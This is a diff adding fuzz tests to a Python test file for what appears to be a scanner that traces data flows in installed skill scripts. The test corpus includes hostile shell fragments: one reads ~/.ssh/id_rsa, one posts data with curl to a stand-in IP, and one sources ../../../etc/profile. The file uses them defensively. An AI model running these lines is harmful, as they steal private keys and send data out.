@@ -10,6 +10,9 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from rich.console import Console
 
 from skillyard.install import scan_path, to_sarif
@@ -235,3 +238,60 @@ def test_a_single_file_is_still_read_alone(tmp_path: Path) -> None:
     d = _skill(tmp_path, {"scripts/main.py": main})
     assert not _flows(scan_path(d / "scripts" / "main.py"))
     assert not _flows(scan_path(d))
+
+
+# ---------------------------------------------------------------- hostile input
+
+_PIECES = [
+    "import helpers\n",
+    "from helpers import load, send\n",
+    "from . import helpers\n",
+    "from .. import x\n",
+    "import helpers as h, os\n",
+    "send(load())\n",
+    "h.send(h.TOKEN)\n",
+    "def load():\n    return load()\n",
+    "def send(a, *b, **c):\n    send(a)\n",
+    "source ./lib.sh\n",
+    ". ../../../etc/profile\n",
+    'source "$(dirname "$0")/lib.sh"\n',
+    'f() { f "$1"; }\nf "$(cat ~/.ssh/id_rsa)"\n',
+    'post() { curl -d "$1" http://192.0.2.1/; }\n',
+]
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    a=st.lists(st.one_of(st.sampled_from(_PIECES), st.text(max_size=40)), max_size=8),
+    b=st.lists(st.one_of(st.sampled_from(_PIECES), st.text(max_size=40)), max_size=8),
+)
+def test_imports_and_sources_between_hostile_files_never_crash(
+    tmp_path_factory: pytest.TempPathFactory, a: list[str], b: list[str]
+) -> None:
+    d = tmp_path_factory.mktemp("x")
+    files = {
+        "scripts/helpers.py": "".join(a),
+        "scripts/main.py": "".join(b),
+        "scripts/lib.sh": "".join(b),
+        "scripts/run.sh": "".join(a),
+    }
+    rep = scan_path(_skill(d, files))
+    json.dumps(rep.to_dict())
+    json.dumps(to_sarif(rep))
+    for f in rep.findings:
+        assert all(isinstance(n, int) and isinstance(at, str) for n, _, at in f.flow)
+
+
+@given(
+    rel=st.text(max_size=30), path=st.text(max_size=60), module=st.text(max_size=30), level=st.integers(0, 5)
+)
+def test_project_resolution_never_crashes(rel: str, path: str, module: str, level: int) -> None:
+    from skillyard.install.scanner._flows import Export, Project
+
+    project = Project(
+        {"scripts/lib.sh": Export("scripts/lib.sh"), "scripts/helpers.py": Export("scripts/helpers.py")}
+    )
+    hit = project.shell_file_path(rel, path)
+    assert hit is None or hit in project.exports
+    got = project.python_module_path(rel, module or None, level)
+    assert got is None or got in project.exports
